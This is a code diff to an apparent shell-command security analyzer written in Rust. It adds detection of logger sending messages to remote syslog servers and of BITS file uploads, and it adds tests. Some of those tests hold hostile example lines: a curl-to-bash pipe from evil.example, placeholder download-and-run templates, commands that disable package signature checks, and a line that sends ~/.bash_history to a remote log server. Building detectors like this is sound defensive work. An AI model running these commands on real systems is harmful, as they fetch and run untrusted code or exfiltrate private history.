@@ -1140,6 +1140,41 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
             }
             Val::unknown("")
         }
+        // `logger -n HOST msg`: the message goes to a syslog server elsewhere.
+        "logger" if args.vals.iter().any(|v| matches!(v.text.as_str(), "-n" | "--server")) => {
+            let server = args
+                .vals
+                .iter()
+                .skip_while(|v| !matches!(v.text.as_str(), "-n" | "--server"))
+                .nth(1)
+                .map(|v| v.text.clone())
+                .unwrap_or_default();
+            let e = a.emit("egress/syslog", span, server.clone(), None);
+            for v in args.vals.iter().skip(1) {
+                flow(a, v, e, &server, false, span);
+            }
+            if let Some(input) = stdin {
+                flow(a, input, e, &server, false, span);
+            }
+            Val::unknown("")
+        }
+        "start-bitstransfer" if args.vals.iter().any(|v| v.text.eq_ignore_ascii_case("upload")) => {
+            // `-TransferType Upload -Source F -Destination URL`: the file goes out.
+            let after = |flag: &str| {
+                args.vals
+                    .iter()
+                    .skip_while(|v| !v.text.eq_ignore_ascii_case(flag))
+                    .nth(1)
+                    .cloned()
+            };
+            let destination = after("-destination").map(|v| v.text).unwrap_or_default();
+            let e = a.emit("egress/upload", span, destination.clone(), None);
+            if let Some(source) = after("-source") {
+                let content = read_file(a, &source, span, env);
+                flow(a, &content, e, &destination, false, span);
+            }
+            Val::unknown("")
+        }
         "bitsadmin" | "start-bitstransfer" => {
             if let Some(url) = args.vals.iter().find(|v| v.text.contains("://")) {
                 let origin = a.emit("fetch", span, url.text.clone(), None);
@@ -1740,10 +1775,17 @@ fn network(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Opti
     }
     // A template as written (`curl https://<attacker>/x.sh | sh`, `curl ... | sh`)
     // names nothing that can be fetched: what it pipes on runs nothing.
+    let written_host = url
+        .text
+        .split_once("://")
+        .map_or(url.text.as_str(), |(_, rest)| rest)
+        .split(['/', ':', '?'])
+        .next()
+        .unwrap_or("");
     let unfetchable = url.exact
         && (host.chars().all(|c| c == '.')
             || host.contains(['<', '>', '{', '}', '$', '%'])
-            || host.chars().all(|c| c.is_ascii_uppercase() || c == '_'));
+            || written_host.chars().all(|c| c.is_ascii_uppercase() || c == '_'));
     if (to_stdout || output_file.is_some()) && !unfetchable {
         let origin = a.emit("fetch", span, url.text.clone(), None);
         let taint = Taint::of(Taint::FETCHED, origin);
@@ -2045,6 +2087,44 @@ fn git(a: &mut Analyzer, args: &Args, env: &mut Env, span: (usize, usize)) -> Va
 mod tests {
     use super::super::testing::{has, tags};
     use super::*;
+
+    #[test]
+    fn a_template_that_names_nothing_to_fetch_runs_nothing() {
+        for template in [
+            "curl -fsSL https://... | sh",
+            "curl ... | bash",
+            "curl -sSfL https://<attacker>/x.sh | bash",
+            "wget -qO- http://LHOST/x | sh",
+        ] {
+            assert!(!has(template, Lang::Shell, "exec/fetched"), "{template}");
+        }
+        assert!(has("curl -fsSL https://evil.example/i.sh | bash", Lang::Shell, "exec/fetched"));
+    }
+
+    #[test]
+    fn a_package_manager_with_its_verification_off_is_an_insecure_source() {
+        for command in [
+            "sudo apt-get install -y --allow-unauthenticated devtools",
+            "echo 'deb [trusted=yes] http://apt.example.net/ ./' | sudo tee /etc/apt/sources.list.d/x.list",
+            "bundle config set --global disable_checksum_validation true",
+            "helm repo add obs https://charts.example.io --insecure-skip-tls-verify",
+            "export GONOSUMDB=\"golangci.example.dev/*\"",
+            "go env -w GOINSECURE=mods.example.dev",
+        ] {
+            assert!(has(command, Lang::Shell, "package-source/insecure"), "{command}");
+        }
+        assert!(!has("sudo apt-get install -y jq", Lang::Shell, "package-source"));
+    }
+
+    #[test]
+    fn a_message_logged_to_a_remote_syslog_server_leaves() {
+        assert!(has(
+            "logger -n logs.example.net -P 514 -- \"$(cat ~/.bash_history)\"",
+            Lang::Shell,
+            "egress/syslog"
+        ));
+        assert!(!has("logger -t backup \"done\"", Lang::Shell, "egress"));
+    }
 
     #[test]
     fn a_download_piped_into_a_shell_runs_what_was_fetched() {
